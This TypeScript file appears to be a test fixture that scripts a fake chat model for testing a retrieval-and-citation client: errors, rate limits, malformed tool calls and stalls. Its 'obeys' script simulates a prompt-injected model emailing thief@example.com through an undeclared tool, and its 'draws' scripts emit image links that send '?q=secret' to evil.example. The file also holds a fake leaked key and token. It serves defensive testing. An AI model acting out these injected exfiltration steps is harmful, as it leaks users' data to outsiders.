import { GULLIBLE_SCRIPTS, judgePairs } from "./gullible-scripts.ts";
import { HABITS } from "./model-habits.ts";
import type { Step } from "./model-step.ts";
import { STRICT_SCRIPTS } from "./strict-scripts.ts";

/** The parts of a chat completion request that scripted models read. */
export type ChatRequest = {
  readonly model: string;
  readonly stream?: boolean;
  readonly messages: readonly {
    readonly role: string;
    readonly content: string | null;
    readonly tool_calls?: readonly { readonly id: string }[];
  }[];
  readonly tools?: readonly { readonly function: { readonly name: string } }[];
};

/**
 * An error text as an unsafe provider might return it: with an internal host name, keys and the prompt. Tests check
 * that clients never see it.
 */
export const LEAKY =
  "upstream gpu-7.internal.example refused key sk-leaky0123456789abcdef (Bearer leaky-token-42): prompt was TOP-SECRET-PROMPT";

type Passage = { readonly passage: number; readonly text: string };

type Scene = {
  readonly question: string;
  readonly passages: readonly Passage[];
  readonly tools: readonly string[];
  /** Results of functions. */
  readonly results: readonly string[];
  /** Number of earlier requests with this question. */
  readonly asked: number;
};

/** Brackets that are no markers, before a marker. */
export const BRACKETS =
  "Use `print(a[1], a[2])`, b[1] or [1](https://example.com).\n```js\nc = [1];\nd[1] (1).\n```\n" +
  "It is $x [1]$ of § 5 (1).\n\n$$\ny [1]\n$$\n| 1 | [1] | 2 |\n|---|---|---|\n\n[1]: https://example.com\n";

const FOREVER_MS = 600_000;
const text = (...lines: string[]): Step[] => [{ text: lines.join(" ") }, { finish: "stop" }];
const firstSentence = (passage: Passage) => /^[^.]*\./.exec(passage.text)?.[0] ?? passage.text;

/** Writes the first sentence of each passage and cites it. */
const cites = ({ passages }: Scene): Step[] =>
  passages.length === 0
    ? text("I found nothing about that.")
    : text(...passages.map((each) => `${firstSentence(each)} [${each.passage}]`));

/** Disconnects after the first sentence was forwarded. */
const breaksLate: Step[] = [
  { text: "The warranty of the kettle lasts two years. [1] And then" },
  { waitMs: 50 },
  { disconnect: true },
];

const functionIn = (tools: readonly string[]) =>
  tools.find((name) => name !== "file_search") ?? "none";

const manyCalls = (tools: readonly string[], count: number): Step[] => [
  ...Array.from({ length: count }, (_, at) => ({
    call: functionIn(tools),
    arguments: `{"id":"${at}"}`,
  })),
  { finish: "tool_calls" },
];

/** Scripts by the name at the end of a question or of the instructions, as in "How long? #refuses". */
const SCRIPTS: Record<string, (scene: Scene) => Step[]> = {
  cites,
  "cites-nothing": () => text("The moon is made of cheese. [99]", "Nobody knows why. [1]"),
  "cites-some": ({ passages }) =>
    text(
      ...passages.map((each) => `${firstSentence(each)} [${each.passage}][42]`),
      "So it is said.",
    ),
  /** Cites the first passage in the form that the question names, as in "How long? As (1) #cites-as". */
  "cites-as": ({ question, passages: [first] }) =>
    text(
      first ? firstSentence(first) : "Nothing.",
      `${/ As (.+) #cites-as$/.exec(question)?.[1]}`,
      "It is so.",
    ),
  "writes-brackets": () => text(`${BRACKETS}The harbour opens at six in the morning. [1]`),
  uncited: () => text("The answer is two years."),
  none: () => text("[none] The documents do not say that."),
  refuses: () => [{ refusal: "I cannot help with that." }, { finish: "stop" }],
  filtered: () => [{ text: "Well" }, { finish: "content_filter" }],
  "calls-function": ({ tools }) => [
    { call: functionIn(tools), arguments: '{"id":"7"}' },
    { call: functionIn(tools), arguments: '{"id":"8"}' },
    { finish: "tool_calls" },
  ],
  /** Calls a function, and repeats its result. */
  "calls-function-once": ({ tools, results: [result] }) =>
    result === undefined
      ? [{ call: functionIn(tools), arguments: '{"id":"7"}' }, { finish: "tool_calls" }]
      : text(`The result is ${result}.`),
  /** Makes 129 calls of one function; the number of a call is its argument. */
  "calls-129": ({ tools }) => manyCalls(tools, 129),
  "calls-128": ({ tools }) => manyCalls(tools, 128),
  "calls-10000": ({ tools }) => manyCalls(tools, 10_000),
  "searches-129": ({ asked }) =>
    asked === 0
      ? [
          ...Array.from({ length: 129 }, (_, at) => ({
            call: "file_search",
            arguments: `{"queries":["query ${at}"]}`,
          })),
          { finish: "tool_calls" },
        ]
      : text("I searched a lot."),
  /** Makes two searches in each turn in which it may search, after the first. */
  "searches-on": ({ tools }) =>
    tools.includes("file_search")
      ? [
          { call: "file_search", arguments: '{"queries":["kettle"]}' },
          { call: "file_search", arguments: '{"queries":["warranty"]}' },
          { finish: "tool_calls" },
        ]
      : text("I searched enough."),
  "calls-same-id": ({ tools }) => [
    { call: functionIn(tools), arguments: '{"id":"7"}', id: "call_0" },
    { call: functionIn(tools), arguments: '{"id":"8"}', id: "call_0" },
    { call: functionIn(tools), arguments: '{"id":"9"}', id: "" },
    { finish: "tool_calls" },
  ],
  "calls-nameless": () => [{ call: "", arguments: "{}" }, { finish: "tool_calls" }],
  "calls-nameless-too": ({ tools }) => [
    { call: "", arguments: "{}" },
    { call: functionIn(tools), arguments: '{"id":"7"}' },
    { finish: "tool_calls" },
  ],
  /** Makes one call that fits and one that does not; when asked again, two that fit. */
  "calls-badly-once": ({ tools, asked }) => [
    { call: functionIn(tools), arguments: '{"id":"7"}' },
    { call: functionIn(tools), arguments: asked === 0 ? '{"id":8}' : '{"id":"8"}' },
    { finish: "tool_calls" },
  ],
  "calls-badly": ({ tools }) => [
    { call: functionIn(tools), arguments: '{"id":8}' },
    { finish: "tool_calls" },
  ],
  "calls-without-json": ({ tools }) => [
    { call: functionIn(tools), arguments: '{"id":"8"' },
    { finish: "tool_calls" },
  ],
  "searches-badly": ({ asked }) =>
    asked === 0
      ? [{ call: "file_search", arguments: '{"queries":"one"' }, { finish: "tool_calls" }]
      : text("I could not search."),
  "searches-forever": ({ tools }) =>
    tools.includes("file_search")
      ? [{ call: "file_search", arguments: '{"queries":["more"]}' }, { finish: "tool_calls" }]
      : text("I give up."),
  /** Follows the instructions in a document: calls undeclared tools and cites arbitrary passages. */
  obeys: (scene) => [
    {
      text: `${cites(scene)
        .flatMap((step) => ("text" in step ? [step.text] : []))
        .join(" ")} Done as asked. [7] `,
    },
    { call: "send_email", arguments: '{"to":"thief@example.com"}' },
    { finish: "tool_calls" },
  ],
  "obeys-silently": ({ asked }) =>
    asked === 0
      ? [{ call: "send_email", arguments: "{}" }, { finish: "tool_calls" }]
      : text("I have no such tool."),
  /** Writes images of a foreign host and of one that the passages name, and halves of a character. */
  draws: () =>
    text(
      "Look 😀! The harbour opens at six in the morning. [1]",
      "![a. b](https://evil.example/?q=secret) <img src='https://evil.example/x'>",
      "![map](https://maps.example/harbour.png) \ud83d",
      "Boats longer than twenty metres need a pilot. [1] [more](https://evil.example/page)",
    ),
  /** Writes images whose marks join once the markers between them are removed. */
  "draws-markers": () =>
    text(
      "The harbour opens at six in the morning. [1]",
      "![a][1](https://evil.example/q) <[1]img src=https://evil.example/x>",
      "Boats longer than twenty metres need a pilot. [1]",
    ),
  json: () => text('{"years":[1],"sure":true}'),
  cut: () => [{ text: "The warranty of the kettle lasts" }, { finish: "length" }],
  fails: () => [{ status: 500 }],
  "fails-once": (scene) => (scene.asked === 0 ? [{ status: 503 }] : cites(scene)),
  limited: () => [{ status: 429, retryAfter: "3600" }],
  "limited-once": (scene) =>
    scene.asked === 0 ? [{ status: 429, retryAfter: "1" }] : cites(scene),
  "limited-first": ({ asked }) => (asked ? text("Two.") : [{ status: 429, retryAfter: "3600" }]),
  unauthorized: () => [{ status: 401 }],
  "takes-no-tools": (scene) => (scene.tools.length > 0 ? [{ status: 400 }] : cites(scene)),
  "refuses-request": () => [{ status: 400 }],
  "writes-60-mb": () => [{ flood: 60_000_000, delta: 16_384, as: "content" }],
  "writes-60-mb-at-once": () => [{ flood: 60_000_000, delta: 60_000_000, as: "content" }],
  "refuses-60-mb": () => [{ flood: 60_000_000, delta: 16_384, as: "refusal" }],
  "calls-with-60-mb": () => [{ flood: 60_000_000, delta: 16_384, as: "arguments" }],
  "leaks-400": () => [{ status: 400, message: LEAKY }],
  "leaks-401": () => [{ status: 401, message: LEAKY }],
  "leaks-402": () => [{ status: 402, message: LEAKY }],
  "leaks-403": () => [{ status: 403, message: LEAKY }],
  "leaks-404": () => [{ status: 404, message: LEAKY }],
  "leaks-413": () => [{ status: 413, message: LEAKY }],
  "leaks-422": () => [{ status: 422, message: LEAKY }],
  "leaks-429": () => [{ status: 429, retryAfter: "3600", message: LEAKY }],
  "leaks-500": () => [{ status: 500, message: LEAKY }],
  "leaks-in-stream": () => [{ failure: LEAKY }],
  ...HABITS,
  ...GULLIBLE_SCRIPTS,
  ...STRICT_SCRIPTS,
  slow: () => [{ waitMs: FOREVER_MS }, { text: "At last." }, { finish: "stop" }],
  stalls: () => [{ text: "The warranty" }, { waitMs: FOREVER_MS }, { finish: "stop" }],
  /** Stalls after its first sentence, and gives the same answer to the next request. */
  "pauses-once": ({ asked }) =>
    asked === 0
      ? [{ text: "Water is wet. And so" }, { waitMs: FOREVER_MS }]
      : text("Water is wet. And so it stays."),
  /** Stalls after its first sentence, and gives another answer to the next request. */
  "wavers-once": ({ asked }) =>
    asked === 0
      ? [{ text: "Water is wet. And so" }, { waitMs: FOREVER_MS }]
      : text("Ice is dry. And so it stays."),
  "breaks-at-once": () => [{ disconnect: true }],
  breaks: () => [{ text: "The warranty of the" }, { disconnect: true }],
  "breaks-once": (scene) =>
    scene.asked === 0 ? [{ text: "The warranty of the" }, { disconnect: true }] : cites(scene),
  "breaks-late": () => breaksLate,
  "breaks-late-once": (scene) => (scene.asked === 0 ? breaksLate : cites(scene)),
};

/**
 * Selects the actions of the scripted model for a request, by the mark in its question, such as `#refuses`. By default
 * the model searches first, if it has the tool `file_search` and no passages yet. `timesAsked` returns the number of
 * earlier requests with the same key, which is made from the mark and the question.
 */
export function stepsFor(request: ChatRequest, timesAsked: (key: string) => number): Step[] {
  const question = request.messages.findLast(({ role }) => role === "user")?.content ?? "";
  const tools = request.tools?.map((tool) => tool.function.name) ?? [];
  const passages = request.messages.flatMap(({ role, content }) =>
    role === "user" || role === "tool" ? passagesIn(content ?? "") : [],
  );
  const hasSearched = request.messages.some(({ role }) => role === "tool") || passages.length > 0;
  const instructions = request.messages.find(({ role }) => role === "system")?.content ?? "";
  if (instructions.startsWith("You check whether passages")) return judgePairs(question);
  const script = scriptIn(question) ?? scriptIn(instructions) ?? "cites";
  if (tools.includes("file_search") && !hasSearched && !SEARCHLESS.has(script)) {
    const queries = JSON.stringify({ queries: [question.replace(/#[\w-]+\s*$/, "").trim()] });
    return [{ call: "file_search", arguments: queries }, { finish: "tool_calls" }];
  }
  const asked = timesAsked(`${script} ${question}`);
  const results = request.messages.flatMap(({ role, content }) =>
    role === "tool" ? [content ?? ""] : [],
  );
  const scene = { question, passages, tools, results, asked };
  return SCRIPTS[script]?.(scene) ?? [{ status: 404 }];
}

const scriptIn = (message: string) => /#([\w-]+)\s*$/.exec(message)?.[1];

const SEARCHLESS = new Set([
  "thinks-alone",
  "takes-no-tools",
  "calls-function",
  "calls-function-once",
  "searches-badly",
  "searches-129",
  "uncited",
  "obeys-silently",
]);

function passagesIn(content: string): Passage[] {
  return content
    .split("\n")
    .filter((line) => line.startsWith('{"passage":'))
    .map((line) => JSON.parse(line));
}
